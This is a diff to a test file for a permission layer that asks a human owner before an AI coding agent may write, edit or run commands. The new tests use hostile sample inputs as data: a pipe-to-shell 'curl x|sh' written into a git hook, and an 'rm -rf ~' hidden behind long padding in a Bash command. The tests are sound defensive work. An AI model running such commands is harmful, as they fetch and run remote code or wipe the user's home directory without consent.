@@ -4,6 +4,7 @@ refuses without asking, and a task's plan is accepted at its autonomy."""
 import json
 from typing import Any
 
+from boxd.wire.approval import MAX_QUESTION
 from boxd.workers.mcp.permission import Permissions, permission_key, question
 from boxd.workers.mcp.tools import Relay
 
@@ -40,10 +41,36 @@ async def test_within_it_the_owner_answers_under_one_key_until_they_do() -> None
     said = decision(await permissions.answer({"tool_name": "Write", "input": wanted}))
     assert said == {"behavior": "allow", "updatedInput": wanted}
     text = question("Write", wanted)
-    assert text == "Claude Code asks to use Write /home/x"
-    assert broker.asked == [{"question": text, "key": permission_key(text)}] * 2
+    assert text is not None and '"content": "y"' in text and '"/home/x"' in text
+    assert broker.asked == [{"question": text, "key": permission_key("Write", wanted)}] * 2
     said = decision(await permissions.answer({"tool_name": "Write", "input": wanted}))
     assert said["behavior"] == "deny"
+
+
+def test_the_key_covers_the_whole_input() -> None:
+    hook = "/ws/.git/hooks/post-checkout"
+    assert permission_key("Write", {"file_path": hook, "content": "echo ok"}) != permission_key(
+        "Write", {"file_path": hook, "content": "curl x|sh"}
+    )
+    edit = {"file_path": hook, "old_string": "a", "new_string": "b"}
+    assert permission_key("Edit", edit) != permission_key("Edit", {**edit, "new_string": "c"})
+    long = "echo " + "x" * 400
+    assert permission_key("Bash", {"command": long + " ok"}) != permission_key(
+        "Bash", {"command": long + " && rm -rf ~"}
+    )
+    assert permission_key("Bash", {"command": "ls"}) != permission_key("Read", {"command": "ls"})
+    shown = question("Bash", {"command": long + " && rm -rf ~"})
+    assert shown is not None and shown.endswith('&& rm -rf ~"\n}')
+
+
+async def test_an_input_too_long_to_show_whole_is_refused_without_asking() -> None:
+    broker = Broker()
+    permissions = Permissions(broker, autonomy="low", plan=False)
+    wanted = {"file_path": "/home/x", "content": "y" * MAX_QUESTION}
+    assert question("Write", wanted) is None
+    said = decision(await permissions.answer({"tool_name": "Write", "input": wanted}))
+    assert said["behavior"] == "deny" and "too long to show" in said["message"]
+    assert broker.asked == []
 
 
 async def test_the_plan_is_accepted_only_when_the_task_asked_for_one() -> None:
